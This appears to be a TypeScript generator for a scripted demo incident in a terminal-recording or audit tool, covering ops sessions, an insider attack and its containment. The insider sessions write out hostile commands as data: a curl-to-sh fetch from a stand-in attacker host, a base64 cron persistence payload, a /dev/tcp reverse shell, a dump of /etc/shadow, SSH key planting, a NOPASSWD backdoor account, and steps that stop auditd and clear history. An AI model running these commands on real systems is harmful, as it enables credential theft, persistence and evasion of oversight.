// The scripted incident, one generator per session. Times are offsets from the demo start T0
// (by default 02:10 UTC): carol, on call, is paged for web-1 and works in a shared tmux session that
// alice watches and bob joins; meanwhile mallory, a contractor, logs in at 03:02, harvests
// credentials, plants persistence and disables auditing on db-1; at 04:06 alice contains it.
import type { TrailEvent } from '../../core/records.js';
import { bulkSlot } from './bulk-output.js';
import { ATTACKER_IP, BACKUP2_PASSWORD, HOSTS, MALLORY_WRONG_PASSWORD, PEOPLE, type Person } from './cast.js';
import { MINUTE, SECOND } from './clock-text.js';
import { highlightSudoers, highlightTypeScript, topProgram, vimProgram, type TopProcess } from './full-screen.js';
import type { Participant, ShellSession } from './shell-session.js';
import {
  SUDOERS_LINES, WIDTH_TS_LINES, aptInstall, binaryGarbage, checkoutLogs, dfH, duVarLog, freeH, gitLogGraph,
  gitLogOneline, gitPull, grepHits, iostat, journalNginx, journalVacuum, kubectlPods, kubectlPodsWatch, last,
  lsDocs, lsNginxLogs, makeSmall, motd, nginxAccessTail, npmTest, psAux, shadow, sudoList, systemctlStatusAuditd,
  uptime, w,
} from './terminal-output.js';

/** Facts one session establishes and a later one shows (e.g. when auditd was stopped). */
export interface IncidentFacts {
  auditdStoppedAt?: number;
  malloryDbLogout?: number;
}

export type Script = (s: ShellSession, t0: number, facts: IncidentFacts) => Generator<TrailEvent>;

const HOUR = 60 * MINUTE;
const { alice, bob, mallory } = PEOPLE;

const WEB1_PROCESSES: readonly TopProcess[] = [
  { pid: 31337, user: 'www-data', command: 'node', cpu: 97, mem: 9.8, virt: 1893220, res: 1608412, shr: 41220 },
  { pid: 31338, user: 'www-data', command: 'node', cpu: 88, mem: 9.1, virt: 1880104, res: 1492284, shr: 40912 },
  { pid: 1190, user: 'www-data', command: 'nginx', cpu: 41, mem: 0.6, virt: 214932, res: 98412, shr: 6012 },
  { pid: 1191, user: 'www-data', command: 'nginx', cpu: 39, mem: 0.6, virt: 214816, res: 97120, shr: 6012 },
  { pid: 877, user: 'root', command: 'containerd', cpu: 6.4, mem: 1.2, virt: 1834544, res: 201944, shr: 40212 },
  { pid: 412, user: 'root', command: 'systemd-journal', cpu: 2.1, mem: 0.9, virt: 292812, res: 148220, shr: 140112 },
  { pid: 902, user: 'root', command: 'kubelet', cpu: 1.8, mem: 1.6, virt: 2012344, res: 261120, shr: 71232 },
  { pid: 688, user: 'syslog', command: 'rsyslogd', cpu: 0.4, mem: 0, virt: 222400, res: 6100, shr: 4012 },
  { pid: 48210, user: 'carol', command: 'top', cpu: 0.3, mem: 0, virt: 11952, res: 4412, shr: 3390 },
  { pid: 702, user: 'root', command: 'sshd', cpu: 0, mem: 0.1, virt: 15432, res: 9012, shr: 7540 },
  { pid: 1, user: 'root', command: 'systemd', cpu: 0, mem: 0.2, virt: 167748, res: 13140, shr: 8400 },
  { pid: 2, user: 'root', command: 'kthreadd', cpu: 0, mem: 0, virt: 0, res: 0, shr: 0 },
];

/** A participant of the shared tmux session. */
function client(person: Person, tty: string, readOnly: boolean, pid: number): Participant {
  return { person, clientTty: tty, client: tty, remote: person.remote, readOnly, pid };
}

// ---- 1. web-1-tmux-ops: carol's shared tmux session ---------------------------------------------

export const tmuxOps: Script = function* (s, t0) {
  const web1 = HOSTS.web1;
  const aliceWatching = client(alice, '/dev/pts/5', true, 48213);
  const bobHelping = client(bob, '/dev/pts/6', false, 48377);
  yield s.start();
  yield s.marker('page', 'PagerDuty #8812: web-1 load average above 12 for 10 minutes (checkout latency p99 > 30 s)');
  yield* s.prompt();
  yield* s.run({ text: 'uptime', think: 3, output: (t) => uptime(t.clock, [14.21, 12.87, 9.03], 2) });
  yield* s.run({
    text: 'top',
    interact: topProgram({ frames: 6, uptimeDays: 41, users: 2, load: [14.2, 12.9, 9.0], memTotalMiB: 15988.3, processes: WEB1_PROCESSES }),
  });
  yield* s.run({
    text: 'journalctl -u nginx.service -n 20 --no-pager',
    tab: { typed: 'journalctl -u ngi', completes: 'nx.service ' },
    output: (t) => journalNginx(t.rng, web1, t.clock, 20),
  });
  yield* s.run({ text: 'df -h', output: dfH(web1) });
  s.waitUntil(t0 + 14 * MINUTE + 12 * SECOND);
  yield s.join(aliceWatching);
  yield* s.run({ text: 'sudo du -xh --max-depth=1 /var/log | sort -h | tail -n 6', sudo: true, output: [{ after: 2600, text: duVarLog() }] });
  yield* s.run({ text: 'ls -la --color=auto /var/log/nginx/', output: (t) => lsNginxLogs(t.clock) });
  yield* s.run({ text: 'sudo journalctl --vacuum-size=500M', output: [{ after: 1400, text: journalVacuum() }] });
  yield* s.run({ text: 'kubectl -n shop get pods', output: [{ after: 700, text: kubectlPods('crashing') }] });
  yield* s.run({ text: 'kubectl -n shop describe pod checkout-6f8b9c7d4-h7x2p | tail -n 8', output: [{ after: 820, text: `Events:
  Type     Reason     Age                    From     Message
  ----     ------     ----                   ----     -------
  Normal   Pulled     3m1s (x8 over 31m)     kubelet  Container image "registry.example.com/shop/checkout:2.14.1" already present on machine
  Warning  Unhealthy  2m40s (x41 over 31m)   kubelet  Readiness probe failed: Get "http://10.42.1.17:8081/healthz": context deadline exceeded
  Warning  BackOff    2m13s (x96 over 30m)   kubelet  Back-off restarting failed container checkout in pod checkout-6f8b9c7d4-h7x2p_shop(5e1c…)
` }] });
  s.idle(90, 240); // carol messages bob
  s.waitUntil(t0 + 31 * MINUTE + 40 * SECOND);
  yield s.join(bobHelping);
  s.wait(4); // tmux sizes the window to the smallest attached client
  yield s.resize(120, 32);
  yield* s.run({ by: bob, text: 'kubectl -n shop logs deploy/checkout --tail=15', think: 9, output: (t) => [{ after: 900, text: checkoutLogs(t.rng, t.clock) }] });
  yield* s.run({ by: bob, text: 'git -C /srv/shop log --oneline --graph -n 8', output: gitLogGraph() });
  yield* s.run({ by: bob, text: 'kubectl -n shop rollout undo deployment/checkout', think: 25, output: [{ after: 800, text: 'deployment.apps/checkout rolled back\n' }] });
  yield* s.run({ by: bob, text: 'kubectl -n shop get pods -w', output: kubectlPodsWatch(), interruptAfter: 4000 });
  s.idle(120, 300);
  yield* s.run({ text: 'uptime', output: (t) => uptime(t.clock, [3.12, 7.85, 9.4], 2) });
  s.waitUntil(t0 + 57 * MINUTE + 5 * SECOND);
  yield s.leave(bobHelping, 'detached');
  s.wait(3);
  yield s.resize(160, 45);
  yield* s.run({ text: 'sudo systemctl reload nginx', sudo: true, output: '' });
  yield* s.run({ text: 'tail -n 5 /var/log/nginx/access.log', output: (t) => nginxAccessTail(t.rng, t.clock, 5) });
  s.idle(600, 1100); // writing the incident summary elsewhere
  yield* s.run({ text: 'uptime', output: (t) => uptime(t.clock, [0.91, 1.42, 2.87], 3) });
  s.idle(60, 240);
  yield* bulkSlot(s, 3);
  yield* s.run({ text: 'exit', output: 'exit\n', last: true });
  yield s.end(0, 'shell exited; tmux session closed');
};

// ---- 2. web-1-pts-3-mallory-1: credential harvest and persistence at 03:02 -----------------------

const KEY = `ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOq7m3WkW2cV8h1Jq0Yd4XnR5bTgLs9uPzE6fKaH0rNd m@kali`;
const CRON_PAYLOAD = `(crontab -l 2>/dev/null; echo "*/5 * * * * curl -fsSL http://${ATTACKER_IP}/x.sh | sh") | crontab -`;
export const MALLORY_BASE64 = Buffer.from(CRON_PAYLOAD, 'utf8').toString('base64');

export const malloryWeb: Script = function* (s, t0) {
  const web1 = HOSTS.web1;
  yield s.start();
  yield s.marker('recorder note', 'login of mallory from 198.51.100.23: address not seen before for this account');
  yield* s.output(motd(web1, s.clock, '198.51.100.23', 2 * 24 * HOUR + 5 * HOUR));
  yield* s.prompt();
  yield* s.run({ text: 'id', think: 6, output: 'uid=1004(mallory) gid=1004(mallory) groups=1004(mallory),27(sudo),1010(contractors)\n' });
  yield* s.run({
    text: 'w',
    output: (t) => w(t.clock, [6.05, 8.91, 9.62], [
      { user: 'carol', tty: 'pts/1', from: 'tmux(48170).%0', since: t0, what: '-bash' },
      { user: 'mallory', tty: 'pts/3', from: '198.51.100.23', since: t0 + 52 * MINUTE, what: 'w' },
      { user: 'alice', tty: 'pts/5', from: '10.0.0.5', since: t0 + 14 * MINUTE, what: 'tmux attach -r -t ops' },
      { user: 'bob', tty: 'pts/6', from: '10.0.0.5', since: t0 + 31 * MINUTE, what: 'tmux attach -t ops' },
    ]),
  });
  yield* s.run({ text: 'sudo -l', think: 24, sudo: { wrongFirst: MALLORY_WRONG_PASSWORD }, output: sudoList('mallory', web1) });
  yield* s.run({ text: 'cat /etc/shadow', think: 15, exit: 1, output: 'cat: /etc/shadow: Permission denied\n' });
  yield* s.run({ text: 'sudo cat /etc/shadow', think: 1.2, output: (t) => shadow(t.rng, ['alice', 'bob', 'carol', 'mallory', 'deploy']) });
  s.idle(200, 320); // copying the hashes out
  yield* s.run({ text: 'unset HISTFILE', think: 5, output: '' });
  yield* s.run({
    text: `curl -fsSL http://${ATTACKER_IP}/x.sh | sh`,
    think: 40,
    output: [
      { after: 1300, text: '[*] x.sh 0.3 (linux/amd64)\n' },
      { after: 900, text: '[*] helper written to /dev/shm/.x11-unix/.x (0700)\n' },
      { after: 150, text: '[+] ok\n' },
    ],
  });
  yield* s.run({ text: `echo ${MALLORY_BASE64} | base64 -d | sh`, how: 'paste', think: 65, output: '' });
  yield* s.run({
    text: `bash -i >& /dev/tcp/${ATTACKER_IP}/4444 0>&1`,
    how: 'paste',
    think: 45,
    exit: 1,
    output: [{ after: 1100, text: `bash: connect: Connection refused\nbash: /dev/tcp/${ATTACKER_IP}/4444: Connection refused\n` }],
  });
  yield* s.run({ text: `mkdir -p ~/.ssh && echo "${KEY}" >> ~/.ssh/authorized_keys`, how: 'paste', think: 150, output: '' });
  yield* s.run({ text: `echo "${KEY}" | sudo tee -a /root/.ssh/authorized_keys`, how: 'paste', think: 20, output: `${KEY}\n` });
  yield* s.run({ text: 'history -c', think: 30, output: '' });
  yield* s.run({ text: 'exit', think: 6, output: 'logout\n', last: true });
  yield s.end(0, 'logout');
};

// ---- 3. db-1-pts-1-mallory-1: a backdoor account, sudoers, auditd off -----------------------------

export const malloryDb: Script = function* (s, t0, facts) {
  const db1 = HOSTS.db1;
  yield s.start();
  yield* s.output(motd(db1, s.clock, '10.0.0.5', 6 * 24 * HOUR));
  yield* s.prompt();
  yield* s.run({ text: 'sudo useradd -m -G sudo backup2', think: 25, sudo: true, output: '' });
  yield* s.run({
    text: 'sudo passwd backup2',
    interact: function* (t) {
      t.wait(t.rng.uniform(20, 80));
      yield t.out('New password: ');
      yield* t.hiddenInput(BACKUP2_PASSWORD, mallory);
      yield t.out('Retype new password: ');
      yield* t.hiddenInput(BACKUP2_PASSWORD, mallory);
      t.wait(t.rng.uniform(30, 120));
      yield t.out('passwd: password updated successfully\r\n');
    },
  });
  s.idle(90, 200);
  yield* s.run({
    text: 'sudo visudo',
    interact: vimProgram({
      path: '/etc/sudoers.tmp',
      lines: SUDOERS_LINES,
      highlight: highlightSudoers,
      actions: [
        { kind: 'goto', line: 13 },
        { kind: 'open-below', text: 'Defaults:mallory !log_output' },
        { kind: 'goto', line: 'end' },
        { kind: 'open-below', text: 'backup2 ALL=(ALL) NOPASSWD:ALL' },
        { kind: 'write-quit' },
      ],
    }),
  });
  s.waitUntil(t0 + 82 * MINUTE + 31 * SECOND);
  yield* s.run({
    text: 'sudo systemctl stop auditd',
    exit: 1,
    output: `Failed to stop auditd.service: Operation refused, unit auditd.service may be requested by dependency only (it is configured to refuse manual start/stop).
See system logs and 'systemctl status auditd.service' for details.
`,
  });
  yield* s.run({
    text: 'sudo service auditd stop',
    think: 9,
    output: (t) => {
      facts.auditdStoppedAt = t.clock + 400_000;
      return [{ after: 900, text: '' }];
    },
  });
  yield s.marker('recorder note', 'auditd stopped on db-1 (service auditd stop); terminal recording continues');
  yield* s.run({
    text: 'sudo systemctl status auditd --no-pager',
    exit: 3,
    output: (t) => systemctlStatusAuditd(false, facts.auditdStoppedAt ?? t.clock - 20 * SECOND, t.clock),
  });
  s.idle(300, 540);
  yield* s.run({ text: 'history -c', output: '' });
  yield* s.run({ text: 'exit', output: 'logout\n', last: true });
  facts.malloryDbLogout = s.clock;
  yield s.end(0, 'logout');
};

// ---- 4. db-1-sudo-alice-1: containment in a root shell (sudo I/O log) -------------------------------

export const aliceContainment: Script = function* (s, t0, facts) {
  yield s.start();
  yield s.marker('incident-4711', 'alert "auditd stopped on db-1"; alice starts containment as root (sudo -i)');
  yield* s.prompt();
  const stopped = facts.auditdStoppedAt ?? t0 + 83 * MINUTE;
  yield* s.run({ text: 'systemctl status auditd --no-pager', think: 4, exit: 3, output: (t) => systemctlStatusAuditd(false, stopped, t.clock) });
  yield* s.run({
    text: 'last -n 6 -i',
    think: 20,
    output: (t) => last([
      { user: 'alice', tty: 'pts/2', from: '10.0.0.5', start: t0 + 115 * MINUTE, end: null },
      { user: 'mallory', tty: 'pts/1', from: '10.0.0.5', start: t0 + 74 * MINUTE + 40 * SECOND, end: facts.malloryDbLogout ?? t0 + 95 * MINUTE },
      { user: 'deploy', tty: 'pts/0', from: '10.0.0.5', start: t0 - 3 * HOUR, end: t0 - 3 * HOUR + 4 * MINUTE },
      { user: 'alice', tty: 'pts/0', from: '10.0.0.5', start: t0 - 27 * HOUR, end: t0 - 26 * HOUR },
      { user: 'bob', tty: 'pts/1', from: '10.0.0.5', start: t0 - 31 * HOUR, end: t0 - 30 * HOUR - 40 * MINUTE },
      { user: 'reboot', tty: 'system boot', from: '0.0.0.0', start: t0 - 41 * 24 * HOUR, end: null },
    ], t.clock),
  });
  yield* s.run({
    text: "grep -n -E 'backup2|mallory' /etc/passwd /etc/group",
    think: 35,
    output: grepHits([
      { file: '/etc/passwd', line: 31, text: 'mallory:x:1004:1004:Mallory Contractor,,,:/home/mallory:/bin/bash', match: 'mallory' },
      { file: '/etc/passwd', line: 34, text: 'backup2:x:1005:1005::/home/backup2:/bin/sh', match: 'backup2' },
      { file: '/etc/group', line: 27, text: 'sudo:x:27:alice,carol,mallory,backup2', match: 'mallory' },
      { file: '/etc/group', line: 52, text: 'backup2:x:1005:', match: 'backup2' },
    ]),
  });
  yield* s.run({
    text: "grep -n -E 'backup2|mallory' /etc/sudoers",
    output: grepHits([
      { line: 14, text: 'Defaults:mallory !log_output', match: 'mallory' },
      { line: 42, text: 'backup2 ALL=(ALL) NOPASSWD:ALL', match: 'backup2' },
    ]),
  });
  yield* s.run({
    text: "sed -i -e '/^backup2 /d' -e '/^Defaults:mallory /d' /etc/sudoers && visudo -c",
    think: 80,
    output: '/etc/sudoers: parsed OK\n/etc/sudoers.d/README: parsed OK\n',
  });
  yield* s.run({ text: 'userdel -r backup2', think: 25, output: 'userdel: backup2 mail spool (/var/mail/backup2) not found\n' });
  yield* s.run({ text: 'usermod -L -e 1 mallory', think: 40, output: '' });
  yield* s.run({ text: 'pkill -KILL -u mallory', exit: 1, output: '' });
  yield* s.run({ text: 'systemctl start auditd && systemctl is-active auditd', output: [{ after: 600, text: 'active\n' }] });
  yield* s.run({
    text: 'ausearch -m USER_CMD -ua mallory -i --start today | grep -o "cmd=.*exe"',
    think: 120,
    output: [{
      after: 400,
      text: `cmd=useradd -m -G sudo backup2 exe
cmd=passwd backup2 exe
cmd=visudo exe
cmd=systemctl stop auditd exe
cmd=service auditd stop exe
`,
    }],
  });
  s.idle(240, 480); // writing it up in the ticket
  yield* s.run({ text: 'exit', output: 'logout\n', last: true });
  yield s.end(0, 'logout');
};

// ---- 5. bastion-pts-4-bob-1: bob's development work ---------------------------------------------------

export const bobDev: Script = function* (s) {
  yield s.start();
  yield* s.output(motd(HOSTS.bastion, s.clock, '10.8.0.14', 7 * HOUR));
  yield* s.prompt();
  yield* s.run({ text: 'cd ~/src/shop/', think: 3, tab: { typed: 'cd ~/src/sh', completes: 'op/' }, output: '', cwd: '/home/bob/src/shop' });
  yield* s.run({ text: 'git pull --rebase', output: gitPull() });
  yield* s.run({ text: 'ls -l --color=auto docs/', output: lsDocs() });
  yield* s.run({ text: 'git log --oneline -n 6', output: gitLogOneline() });
  yield* s.run({ text: 'make -j2', output: makeSmall() });
  yield* bulkSlot(s, 2);
  yield* s.run({ text: 'npm test', exit: 1, output: (t) => npmTest(true, t.clock) });
  yield* s.run({
    text: 'vim src/format/width.ts',
    interact: vimProgram({
      path: 'src/format/width.ts',
      lines: WIDTH_TS_LINES,
      highlight: highlightTypeScript,
      actions: [
        { kind: 'goto', line: 16 },
        { kind: 'resize', cols: 180, rows: 48 },
        { kind: 'change-line', text: '  const width = displayWidth(text);' },
        { kind: 'write-quit' },
      ],
    }),
  });
  yield* s.run({ text: 'npm test', how: 'recall', recallSteps: 2, output: (t) => npmTest(false, t.clock) });
  yield* s.run({
    text: 'cat build/shop-agent',
    interact: function* (t) {
      for (let i = 0; i < 3; i++) {
        t.wait(t.rng.uniform(1, 8));
        yield t.outBinary(binaryGarbage(t.rng, 700 + t.rng.int(900)));
      }
    },
  });
  yield* s.run({ text: 'reset', typo: false, output: [{ after: 1000, text: '\x1bc\x1b[!p\x1b[?3;4l\x1b[4l\x1b>' }] });
  yield* s.run({ text: 'kubectl -n shop get pods', output: [{ after: 650, text: kubectlPods('crashing') }] });
  s.idle(300, 900);
  yield* bulkSlot(s, 1);
  yield* s.run({ text: 'exit', output: 'logout\n', last: true });
  yield s.end(0, 'logout');
};

// ---- 6. web-1-pts-2-alice-1: alice's admin session on web-1 -------------------------------------------

export const aliceWeb: Script = function* (s, t0) {
  yield s.start();
  yield* s.output(motd(HOSTS.web1, s.clock, '10.0.0.5', 20 * HOUR));
  yield* s.prompt();
  yield* s.run({
    text: 'w',
    output: (t) => w(t.clock, [13.4, 12.1, 8.8], [
      { user: 'carol', tty: 'pts/1', from: 'tmux(48170).%0', since: t0, what: 'top' },
      { user: 'alice', tty: 'pts/2', from: '10.0.0.5', since: t0 + 4 * MINUTE, what: 'w' },
    ]),
  });
  yield* s.run({ text: 'free -h', output: freeH() });
  yield* s.run({ text: 'ps aux --sort=-%cpu | head -n 11', output: psAux() });
  yield* s.run({ text: 'sudo apt-get install -y sysstat', sudo: true, output: (t) => aptInstall(t.rows) });
  yield* s.run({ text: 'iostat -x 1 3', output: (t) => iostat(t.rng, t.clock) });
  s.idle(60, 300);
  yield* bulkSlot(s, 2);
  yield* s.run({ text: 'exit', output: 'logout\n', last: true });
  yield s.end(0, 'logout');
};
